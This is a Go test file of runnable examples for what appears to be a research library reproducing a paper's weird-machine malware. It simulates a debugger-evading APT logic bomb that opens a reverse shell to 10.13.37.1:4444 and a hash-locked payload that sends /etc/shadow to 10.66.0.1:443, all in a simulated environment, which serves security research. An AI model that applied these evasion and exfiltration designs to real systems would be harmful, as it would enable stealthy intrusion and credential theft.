package wmapt_test

import (
	"fmt"

	"uwm/internal/analyzer"
	"uwm/internal/core"
	"uwm/internal/skelly"
	"uwm/internal/wmapt"
)

// ExampleAPT_HandlePing is the logic bomb of paper §5.1: a simulated
// APT whose trigger decoding runs on a TSX weird XOR circuit. The
// defender watches the full architectural state the whole time and sees
// nothing until the payload is already running, and attaching a
// debugger makes even the correct trigger undecodable.
func ExampleAPT_HandlePing() {
	env := wmapt.NewEnv()
	apt, err := wmapt.New(env, wmapt.Options{Seed: 1337})
	if err != nil {
		panic(err)
	}
	obs := analyzer.Attach(apt.Machine(), 200_000)
	trigger, err := apt.Install(wmapt.ReverseShell{Addr: "10.13.37.1", Port: 4444})
	if err != nil {
		panic(err)
	}
	fmt.Println("environment before:", env.Snapshot())

	// Wrong triggers under passive observation: silence.
	wrong := trigger
	wrong[3] ^= 0x80
	for i := 0; i < 3; i++ {
		if res, err := apt.HandlePing(wrong); err != nil || res != nil {
			panic(fmt.Sprint("wrong trigger: ", res, err))
		}
	}
	fmt.Println("3 wrong pings; architectural 'xor' seen:", obs.ExecutedOpcode("xor"))

	// An attached debugger aborts the gate transactions, so even the
	// correct trigger cannot decode.
	obs.Observe(true)
	for i := 0; i < 3; i++ {
		if res, err := apt.HandlePing(trigger); err != nil || res != nil {
			panic(fmt.Sprint("debugged trigger: ", res, err))
		}
	}
	obs.Observe(false)
	fmt.Println("3 correct pings under a debugger: silent")

	// Debugger detached: the correct trigger is delivered until the
	// weird XOR decodes all 160 bits.
	for {
		res, err := apt.HandlePing(trigger)
		if err != nil {
			panic(err)
		}
		if res != nil {
			fmt.Printf("payload fired after %d pings:\n", res.PingsReceived)
			for _, e := range res.Events {
				fmt.Println("  ", e)
			}
			break
		}
	}
	fmt.Println("environment after:", env.Snapshot())
	fmt.Println("forensics:", obs.Report())
	// Output:
	// environment before: conns=[] shell=false exfil=0 files=[/etc/shadow]
	// 3 wrong pings; architectural 'xor' seen: false
	// 3 correct pings under a debugger: silent
	// payload fired after 15 pings:
	//    socket/connect 10.13.37.1:4444
	//    dup2 stdio onto socket
	//    execl /bin/sh (simulated reverse shell)
	// environment after: conns=[10.13.37.1:4444] shell=true exfil=0 files=[/etc/shadow]
	// forensics: architectural evidence: 112503 committed insts, 6032 reg writes, 0 mem writes, tx begin/end/abort 4788/1197/3591; 71889 μarch events invisible
}

// ExampleHashLock_HandleInput is hash-locked conditional code (paper
// §5.2, after Sharif et al.): the payload is encrypted under a key
// derived from a secret trigger, and only the trigger's hash is stored,
// computed by the weird SHA-1. The condition can then only be evaluated
// on hardware with transient execution.
func ExampleHashLock_HandleInput() {
	m, err := core.NewMachine(core.Options{Seed: 2718, TrainIterations: 3})
	if err != nil {
		panic(err)
	}
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		panic(err)
	}
	env := wmapt.NewEnv()
	hl, err := wmapt.NewHashLockSystem(sk, env)
	if err != nil {
		panic(err)
	}
	trigger := []byte("the magic words are squeamish ossifrage")
	if err := hl.Install(wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "10.66.0.1:443"}, trigger); err != nil {
		panic(err)
	}
	fmt.Printf("stored: SHA-1(trigger) = %x\n", hl.TriggerHash())

	for _, candidate := range [][]byte{[]byte("letmein"), trigger} {
		res, err := hl.HandleInput(candidate)
		if err != nil {
			panic(err)
		}
		if res == nil {
			fmt.Printf("input %q: weird hash mismatch, silent\n", candidate)
			continue
		}
		fmt.Printf("input %q: decoded\n", candidate)
		for _, e := range res.Events {
			fmt.Println("  payload:", e)
		}
	}
	fmt.Println("environment after:", env.Snapshot())
	// Output:
	// stored: SHA-1(trigger) = 80be931e6f3c13325de7547775126a95eb6b08f9
	// input "letmein": weird hash mismatch, silent
	// input "the magic words are squeamish ossifrage": decoded
	//   payload: open /etc/shadow
	//   payload: send 117 bytes to 10.66.0.1:443
	// environment after: conns=[10.66.0.1:443] shell=false exfil=1 files=[/etc/shadow]
}
